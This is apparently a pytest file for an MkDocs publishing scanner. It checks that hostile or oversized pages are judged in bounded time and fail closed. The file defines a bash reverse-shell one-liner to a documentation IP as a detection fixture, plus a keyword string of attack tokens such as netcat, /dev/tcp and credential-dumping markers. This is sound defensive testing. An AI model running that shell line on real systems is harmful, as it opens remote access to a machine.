"""Hostile input: each page is judged through the real CLI in bounded time, never crashes.

DESIGN.md budgets ≤ 2 s for a 5 MB page or a 1 MB line; these tests allow 10 s per case
(wall time, including starting the CLI) so that a slow CI machine does not flake, and print
the time measured. Past the limits of `core/limits.py` a page fails closed with META020.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from pathlib import Path

import pytest

from mkdocs_threatpub.core.context import Settings
from mkdocs_threatpub.core.findings import Verdict
from mkdocs_threatpub.core.limits import MAX_PAGE_BYTES
from mkdocs_threatpub.pipeline.session import Session
from mkdocs_threatpub.scanners.base import Hit
from mkdocs_threatpub.scanners.document import Document
from tests.rules.helpers import check

SECONDS = 10.0
SHELL_LINE = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"

ADVISORY = """\
## CVE-2026-12345: heap overflow in example-lib before 2.4.1

The parser in example-lib 2.3.0 through 2.4.0 mishandles a crafted header, which lets a
remote attacker crash the service or possibly run code (CWE-122). Versions 6.3.4.1 and
0.10.0.1 of the companion tool are not affected. Upgrade to 2.4.1; as a mitigation, set
`max_header_size = 8192` in `example.conf`.

| Product | Affected | Fixed |
|---|---|---|
| example-lib | 2.3.0 – 2.4.0 | 2.4.1 |
| example-cli | 1.9.x | 1.10.0 |

```bash
pip install --upgrade example-lib==2.4.1
grep -r "max_header_size" /etc/example/
```

Exploitation in the wild has not been observed. The socket layer is not involved; the
payload is a header of more than 64 KiB. Contact security@example.org with questions.
Credit: reported by a researcher at Example Labs on 2026-10-01 (advisory EX-2026-07).

"""

# Keyword-dense noise: every detector's prefilter fires and its patterns start many
# partial matches that never complete.
DENSE = (
    "nc -e socket /dev/tcp/ mkfifo eval($_POST VirtualAlloc \\x90 sekurlsa:: 10.0.0. "
    "uid=0( $6$ -----BEGIN 110101 4111 @example.com 渗透测试 漏洞复现 base64 %2F&#47; "
)


def _fill(unit: str, size: int) -> str:
    return (unit * (size // len(unit) + 1))[:size]


CASES: dict[str, str] = {
    "line-100k-plain": "# Notes\n\n" + "x" * 100_000 + "\n",
    "line-100k-dense": "# Notes\n\n" + _fill(DENSE, 100_000) + "\n",
    "spaces-5000": "# Notes\n\n"
    + " " * 5000
    + "x\n\na"
    + " " * 5000
    + "b\n\n`"
    + " " * 5000
    + "`\n",
    "unterminated-fence": "# Notes\n\n```bash\n" + "echo step\n" * 5000 + "ls -la /tmp\n",
    "advisory-5mb": _fill(ADVISORY, 5_000_000),
    "dense-5mb": _fill(DENSE + "\n", 5_000_000),
    "line-1mb": "# Notes\n\n" + _fill(DENSE, 1_000_000) + "\n",
    "base64-line-1mb": "# Notes\n\n" + "QUFB" * 250_000 + "\n",
}


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_page_is_judged_in_bounded_time(tmp_path: Path, name: str) -> None:
    run = check(tmp_path, {f"{name}.md": CASES[name]})
    page = run.page(f"{name}.md")
    print(
        f"\n{name}: {len(CASES[name]):,} characters judged in {run.seconds:.2f} s "
        f"-> {page.verdict} {sorted(set(page.codes))}"
    )
    assert "Traceback" not in run.stderr, run.stderr
    assert page.verdict in ("publish", "hold", "fail")
    assert "META020" not in page.codes, page.findings  # judged, not given up on
    assert run.seconds < SECONDS, f"{name} took {run.seconds:.1f} s"


def test_unterminated_fence_runs_to_the_end(tmp_path: Path) -> None:
    """As in CommonMark, an unclosed fence holds the rest of the page: its content is
    scanned as code, and found."""
    text = f"# Lab\n\n```bash\necho step\n{SHELL_LINE}\n"
    run = check(tmp_path, {"open.md": text})
    page = run.page("open.md")
    assert page.verdict == "hold"
    assert "bash code block" in page.one("CAC402")["message"]


@pytest.mark.parametrize("offset", [30_000, 900_000])
def test_content_deep_inside_a_long_line_is_found(tmp_path: Path, offset: int) -> None:
    """MkDocs publishes the whole line, so the scan reads the whole line: filler before a
    payload does not hide it."""
    text = "# Notes\n\n" + _fill("filler words ", offset) + SHELL_LINE + " more filler\n"
    run = check(tmp_path, {"long.md": text})
    page = run.page("long.md")
    print(f"\nshell at {offset:,}: judged in {run.seconds:.2f} s")
    assert page.verdict == "hold", page.findings
    assert page.one("CAC402")["line"] == 3
    assert run.seconds < SECONDS


def test_page_over_the_size_limit_fails_closed(tmp_path: Path) -> None:
    """A page larger than MAX_PAGE_BYTES is refused unread: META020 naming the limit."""
    text = _fill(ADVISORY, MAX_PAGE_BYTES + 1000)
    # small.md is an advisory without a block, which META030 (Art. 12) would hold: off here,
    # where only the size limit is measured.
    run = check(
        tmp_path, {"huge.md": text, "small.md": ADVISORY}, options={"rules": {"META030": "off"}}
    )
    print(f"\nhuge: {len(text):,} bytes judged in {run.seconds:.2f} s")
    page = run.page("huge.md")
    assert page.verdict == "fail"
    finding = page.one("META020")
    assert "size limit" in finding["message"]
    assert f"{MAX_PAGE_BYTES // 1_000_000} MB" in finding["message"]
    assert "split the page" in finding["fix"]
    assert run.page("small.md").verdict == "publish"
    assert run.seconds < SECONDS


NOW = dt.datetime(2026, 11, 23, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=8)))


class _SlowDetector:
    """Stands for a detector that takes too long (the time limit is set to zero)."""

    name = "slow-test"
    rule = "CAC402"
    keywords: tuple[str, ...] = ()

    def scan(self, doc: Document) -> Iterator[Hit]:
        return iter(())


def test_page_over_the_time_limit_fails_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    """In-process (the limit is a constant): past MAX_SCAN_SECONDS the scan stops between
    detectors with one META020 naming the limit, whichever content rules ran."""
    from mkdocs_threatpub.scanners import scan

    monkeypatch.setattr(scan, "MAX_SCAN_SECONDS", 0.0)
    monkeypatch.setattr(scan, "DETECTORS", (_SlowDetector(),))
    session = Session(Settings(), NOW)
    judgement = session.judge("notes.md", ADVISORY.encode())
    assert judgement.verdict is Verdict.FAIL
    errors = [f for f in judgement.findings if f.code == "META020"]
    assert len(errors) == 1, judgement.findings
    message = errors[0].finding.message
    assert "time limit" in message
    assert "slow-test" in message
